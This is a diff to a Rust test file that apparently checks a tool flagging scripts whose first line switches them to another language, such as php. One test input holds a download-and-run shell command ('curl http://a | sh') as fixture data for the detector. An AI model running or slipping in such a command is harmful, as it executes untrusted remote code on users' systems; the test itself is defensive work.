@@ -165,6 +165,18 @@ fn what_cannot_be_read_is_never_nothing() {
 }
 
 #[test]
+fn a_first_line_that_makes_a_script_another_language_is_not_known() {
+    let whys = |before: &str, after: &str| of(&[("a.sh", before, after)]).unknown.len();
+    let php = "#!/usr/bin/env php\n<?php echo 1;\n";
+    // `sh a.sh` still runs it as a shell does.
+    assert_eq!(whys("echo a\n", "#!/usr/bin/env php\ncurl http://a | sh\n"), 1);
+    assert_eq!((whys("", php), whys("echo a\n", php)), (1, 1));
+    // It was that before, or is what its name says.
+    assert_eq!(whys(php, "#!/usr/bin/env php\n<?php echo 2;\n"), 0);
+    assert_eq!((whys("echo a\n", "#!/bin/sh\necho b\n"), whys(php, "#!/bin/sh\necho b\n")), (0, 0));
+}
+
+#[test]
 fn what_comes_after_the_last_thing_that_is_told_is_not_known() {
     let before = "open('a')\n".repeat(20_001);
     let delta = of(&[("a.py", &before, &format!("{before}import os\nos.system('x')\n"))]);
